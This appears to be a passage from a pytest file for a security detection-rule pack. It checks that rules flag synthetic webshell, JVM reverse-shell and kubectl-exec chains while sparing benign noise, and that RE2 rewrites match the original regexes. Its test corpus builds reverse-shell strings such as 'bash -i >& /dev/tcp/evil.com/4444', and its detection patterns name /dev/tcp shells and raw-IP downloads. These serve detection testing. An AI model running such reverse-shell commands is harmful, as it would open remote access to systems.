    assert root["parent"]["exe"] in ("/usr/sbin/nginx", "/usr/sbin/php-fpm8.2")
    assert root["process"]["args"][:2] == ["sh", "-c"]
    execs = [v for v in views if v["event"]["kind"] == "process_exec"]
    assert all(v["process"]["cmdline"] for v in execs)
    deep = [v for v in execs if v["ancestors"]]
    assert deep and all(isinstance(a, dict) for v in deep for a in v["ancestors"])
    sessions = [v for v in execs if v["process"]["session_kind"] == "k8s"]
    assert sessions and all(v["container"] for v in sessions)


def test_rules_on_the_generated_workload_find_every_chain_and_spare_the_noise() -> None:
    views, truth = generated(11, 6000)
    chain_of = {e: c.id for c in truth.chains for e in c.events}
    table: dict[str, Counter[str]] = defaultdict(Counter)
    per_chain: dict[str, set[str]] = defaultdict(set)
    noise: dict[str, list[str]] = defaultdict(list)
    for v in views:
        for r in pack():
            if r.matches(v):
                chain = chain_of.get(v["event"]["id"])
                table[r.id]["chain" if chain else "noise"] += 1
                if chain:
                    per_chain[chain].add(r.id)
                else:
                    noise[r.id].append(f"{v['event']['kind']} {v['process']['cmdline']}")
    print("\nrule                                       chain  noise")
    for r in pack():
        print(f"{r.id:42s} {table[r.id]['chain']:5d}  {table[r.id]['noise']:5d}")
    for chain in truth.chains:
        print(chain.id, sorted(per_chain[chain.id]))

    assert truth.chains and {c.kind for c in truth.chains} == {
        "webshell",
        "jvm_revshell",
        "kubectl_exec",
    }
    for chain in truth.chains:
        assert per_chain[chain.id], f"no rule fired on {chain.id}"
    compromising = {r.id for r in pack() if r.compromises}
    assert not compromising & set(noise), {k: noise[k][:3] for k in compromising & set(noise)}
    loud = {r.id for r in pack() if r.severity not in ("info", "low")} & set(noise)
    assert not loud, {k: noise[k][:3] for k in loud}
    # The exploited servers' shells root exploit contexts; the exec session is flagged.
    for chain in truth.chains:
        expected = {
            "webshell": "linux.shell_from_web_server",
            "jvm_revshell": "linux.shell_from_jvm",
            "kubectl_exec": "k8s.kubectl_exec_shell",
        }[chain.kind]
        assert expected in per_chain[chain.id]


def test_performance_smoke_counts_evaluations() -> None:
    """Runs the pack over a workload; times live in bench/, so this only counts."""
    views, _ = generated(11, 6000)
    evaluations = matches = 0
    for v in views:
        for r in pack():
            evaluations += 1
            matches += r.matches(v)
    assert evaluations == len(views) * len(pack())
    assert 0 < matches < evaluations // 100


# -- the same cases through the app: ingested, viewed from the graph, detected --------------------

_PROCESS_FIELDS = ("key", "pid", "ppid", "exe", "comm", "args", "cwd", "uid", "user", "gid",
                   "group", "auid", "session_id", "tty", "cgroup", "service")  # fmt: skip
_PART_OF_KIND = {"dns_query": "dns", "imds_request": "imds", "alert": "alert"}


def _start(second: int) -> str:
    return f"2026-01-05T08:00:{second:02d}.000000000Z"


def _native_process(p: dict[str, Any], pid: int, ppid: int | None, start: int) -> dict[str, Any]:
    """Returns a view's process as the native format ships it, with its own pid and start."""
    out = {k: p[k] for k in _PROCESS_FIELDS if p.get(k) is not None}
    out.update(pid=pid, start_time=_start(start))
    out.pop("ppid", None)
    if ppid is not None:
        out["ppid"] = ppid
    return out


def _session(p: dict[str, Any]) -> dict[str, Any] | None:
    if not p.get("session_kind"):
        return None
    return {"kind": p["session_kind"], "user": p.get("session_user")}


def as_events(view: dict[str, Any], event_id: str, host: str) -> list[dict[str, Any]]:
    """Returns native events that make the app build this view from the graph: the event
    itself (its process, parent and ancestors, container and pod, kind's body), after an
    exec of each parent or ancestor that carried a user session, as a sensor shows it."""
    lineage = [view["process"]]
    if view["parent"] is not None:
        lineage += [view["parent"], *view["ancestors"]]
    pids = [4242 - 10 * i for i in range(len(lineage))]  # each process its own identity
    starts = [30 - i for i in range(len(lineage))]
    native = [
        _native_process(p, pids[i], pids[i + 1] if i + 1 < len(pids) else None, starts[i])
        for i, p in enumerate(lineage)
    ]
    base = {"ts": "2026-01-05T08:01:00.000000000Z", "source": "test", "host": {"id": host}}
    events = []
    for i, p in enumerate(lineage[1:], 1):
        if session := _session(p):
            events.append({**base, "id": f"{event_id}-up{i}", "kind": "process_exec",
                           "process": native[i], "session": session})  # fmt: skip
    ev = view["event"]
    kind = ev["kind"]
    event: dict[str, Any] = {**base, "id": event_id, "kind": kind, "process": native[0]}
    if len(native) > 1:
        event["parent"] = native[1]
        event["ancestors"] = native[2:]
    if session := _session(view["process"]):
        event["session"] = session
    if view["container"] is not None:
        event["container"] = view["container"]
        event["pod"] = view["pod"]
    if kind.startswith(("file_", "network_")):
        part = kind.split("_")[0]
        prefix, names = _EVENT_PARTS[part]
    else:
        part = _PART_OF_KIND.get(kind, "")
        prefix, names = _EVENT_PARTS.get(part, ("", ()))
    body = {n: ev[prefix + n] for n in names if ev.get(prefix + n) is not None}
    if part == "imds":
        body.update((n, ev[n]) for n in _IMDS_PLAIN if ev.get(n) is not None)
    if part:
        event[part] = body
    return [*events, event]


def test_the_cases_through_ingest_and_the_apps_own_views(db: Database) -> None:
    """Every positive and near miss, ingested as events: the app builds the views from
    the graph (app/rules/signals.py views) and writes a Signal per rule that matched."""
    cases: list[tuple[str, int, bool, str]] = []  # rule id, index, positive?, event id
    events: list[dict[str, Any]] = []
    for rule_id in sorted(CASES):
        for positive, views in zip((True, False), CASES[rule_id], strict=True):
            for i, view in enumerate(views):
                event_id = f"{rule_id}-{'pos' if positive else 'neg'}-{i}"
                events += as_events(view, event_id, host=f"host-{len(cases)}")
                cases.append((rule_id, i, positive, event_id))
    alert = V("alert", SH_C, NGINX, rule_id="sensor.shell_from_webserver", title="x",
              severity="high")  # fmt: skip
    events += as_events(alert, "sensor-alert", host="host-alert")
    report = ingest(db, "storyline", [json.dumps(e) + "\n" for e in events],
                    after_batch=Pipeline(rules=pack()))  # fmt: skip
    assert (report.accepted, report.rejected) == (len(events), [])
    fired: dict[str, set[str]] = defaultdict(set)
    for event_id, rule_id in rows(db, "MATCH (s:Signal)-[:ON]->(e:Event) RETURN e.id, s.rule_id"):
        fired[event_id].add(rule_id)
    wrong = [
        f"{rule_id} {'missed positive' if positive else 'fired on negative'} #{i}: "
        f"{CASES[rule_id][0 if positive else 1][i]['process']['cmdline']}"
        for rule_id, i, positive, event_id in cases
        if (rule_id in fired[event_id]) != positive
    ]
    assert wrong == [], "\n".join(wrong)
    # every positive was matched on its own event: the signal's id is rule id:event id
    signal_ids = {s for (s,) in rows(db, "MATCH (s:Signal) RETURN s.id")}
    assert {f"{r}:{e}" for r, _, positive, e in cases if positive} <= signal_ids
    assert fired["sensor-alert"] == {"sensor.shell_from_webserver"}  # the sensor's, no rule's


def test_the_generated_workload_through_the_app_finds_every_chain_and_spares_the_noise(
    db: Database,
) -> None:
    truth = Truth(11, 6000, 3, True)
    text = [x + "\n" for x in lines(11, 6000, truth=truth)]
    ingest(db, "storyline", text, after_batch=Pipeline(rules=pack()))
    chain_of = {e: c.id for c in truth.chains for e in c.events}
    per_chain: dict[str, set[str]] = defaultdict(set)
    noise: dict[str, set[str]] = defaultdict(set)
    builtin = {r.id for r in pack()}
    found = rows(db, "MATCH (s:Signal)-[:ON]->(e:Event) RETURN s.rule_id, e.id")
    for rule_id, event_id in found:
        if rule_id not in builtin:
            continue  # the generator's sensor alerts
        if event_id in chain_of:
            per_chain[chain_of[event_id]].add(rule_id)
        else:
            noise[rule_id].add(event_id)
    assert {c.kind for c in truth.chains} == {"webshell", "jvm_revshell", "kubectl_exec"}
    expected = {
        "webshell": "linux.shell_from_web_server",
        "jvm_revshell": "linux.shell_from_jvm",
        "kubectl_exec": "k8s.kubectl_exec_shell",
    }
    for chain in truth.chains:
        assert expected[chain.kind] in per_chain[chain.id], (chain.id, per_chain[chain.id])
    compromising = {r.id for r in pack() if r.compromises}
    assert not compromising & set(noise)
    loud = {r.id for r in pack() if r.severity not in ("info", "low")}
    assert not loud & set(noise), {k: sorted(noise[k])[:3] for k in loud & set(noise)}
    # the exploits' shells are marked compromised in the graph
    marked = rows(db, "MATCH (s:Signal {compromises: true})-[:ON]->(e:Event) RETURN DISTINCT e.id")
    assert {chain_of.get(e) for (e,) in marked} >= {
        c.id for c in truth.chains if c.kind in ("webshell", "jvm_revshell")
    }


# -- patterns rewritten for RE2 -------------------------------------------------------------------

_LOOKAHEAD = {  # the forms these rules had, which RE2 cannot run: the reference
    "linux.download_from_ip_address": (
        "process.args",
        r"^((https?|ftp)://)?(?!(127|10|0|169\.254|192\.168|172\.(1[6-9]|2\d|3[01]))\.)"
        r"\d{1,3}(\.\d{1,3}){3}([:/]|$)",
    ),
    "linux.reverse_shell_dev_tcp": (
        "process.cmdline",
        r"/dev/(tcp|udp)/(?!(localhost|127\.[0-9.]+|::1)/)[^/\s]+/\d+",
    ),
}


def _ipv4_corpus() -> list[str]:
    octets = [
        "0",
        "1",
        "9",
        "10",
        "11",
        "99",
        "100",
        "126",
        "127",
        "128",
        "168",
        "169",
        "170",
        "172",
        "192",
        "199",
        "200",
        "254",
        "255",
        "256",
        "01",
        "00",
        "010",
    ]
    seconds = ["0", "5", "15", "16", "20", "29", "31", "32", "168", "254", "01", "016"]
    return [
        f"{pre}{a}.{b}.{rest}{post}"
        for a, b, rest, pre, post in itertools.product(
            octets, seconds, ["0.5", "0", "0.5.6"], ["", "http://"], ["", "/x", ":80", "x", "."]
        )
    ]


def _dev_tcp_corpus() -> list[str]:
    hosts = [
        "localhost",
        "localhos",
        "localhostx",
        "l",
        "lo",
        "lx",
        "::1",
        "::",
        "::2",
        ":",
        "1",
        "12",
        "127",
        "127.",
        "127.0.0.1",
        "127.0.0.x",
        "127.1",
        "128.0.0.1",
        "10.0.0.1",
        "evil.com",
        "198.51.100.9",
        "127a",
        "LOCALHOST",
        "localhost.evil",
    ]
    return [
        f"{pre}{h}{post}"
        for h, pre, post in itertools.product(
            hosts,
            ["bash -i >& /dev/tcp/", "x /dev/udp/", "/dev/tcp/127.0.0.1/1; /dev/tcp/"],
            ["/4444", "/x", "/"],
        )
    ]


@pytest.mark.parametrize("rule_id", sorted(_LOOKAHEAD))
def test_rewritten_patterns_match_exactly_what_their_lookahead_forms_did(rule_id: str) -> None:
    field, reference = _LOOKAHEAD[rule_id]
    pattern = re.compile(reference)
    [rule] = [r for r in load_builtin() if r.id == rule_id]
    corpus = _ipv4_corpus() if field == "process.args" else _dev_tcp_corpus()
    exe = "/usr/bin/curl" if field == "process.args" else "/bin/bash"
    differ = []
    for text in corpus:
        proc = P(["curl", text] if field == "process.args" else ["bash", "-c", text], exe=exe)
        proc["cmdline"] = " ".join(proc["args"])
        subject = text if field == "process.args" else proc["cmdline"]
        view = {"event": {"kind": "process_exec"}, "process": proc, "parent": None,
                "ancestors": [], "container": None, "pod": None}  # fmt: skip
        if rule.matches(view) != bool(pattern.search(subject)):
            differ.append(text)
    assert differ == [] and len(corpus) > 200
